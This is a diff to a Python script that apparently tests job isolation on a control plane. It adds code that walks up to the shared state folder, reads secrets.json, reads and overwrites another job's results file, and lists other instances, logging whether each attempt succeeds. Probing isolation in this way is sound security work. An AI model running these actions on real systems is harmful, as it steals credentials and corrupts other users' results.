@@ -38,6 +38,24 @@ for path in glob.glob("../../*token*") + glob.glob("../../../*/*token*"):
         pass
 report["found"] = len(found)
 
+# The control plane's state folder holds every job's results: the job's folder is
+# <state>/instances/<instance>/jobs/<job>, so it is four levels up.
+state = os.path.abspath("../../../..")
+stolen = os.path.join(state, "artifacts", "jobs", VICTIM, "results", "model.json")
+report["files"] = {}
+for what, action in [
+    ("list the state folder", lambda: os.listdir(state)),
+    ("read the state's secrets", lambda: open(os.path.join(state, "secrets.json")).read()),
+    ("read the victim's results", lambda: open(stolen).read()),
+    ("overwrite the victim's results", lambda: open(stolen, "w").write('{"tampered": true}')),
+    ("list the other instances", lambda: os.listdir(os.path.join(state, "instances"))),
+]:
+    try:
+        action()
+        report["files"][what] = "done"
+    except OSError as error:
+        report["files"][what] = error.strerror
+
 
 def attempt(what, method, url, token, body=None):
     request = urllib.request.Request(CP + url, data=body, method=method)
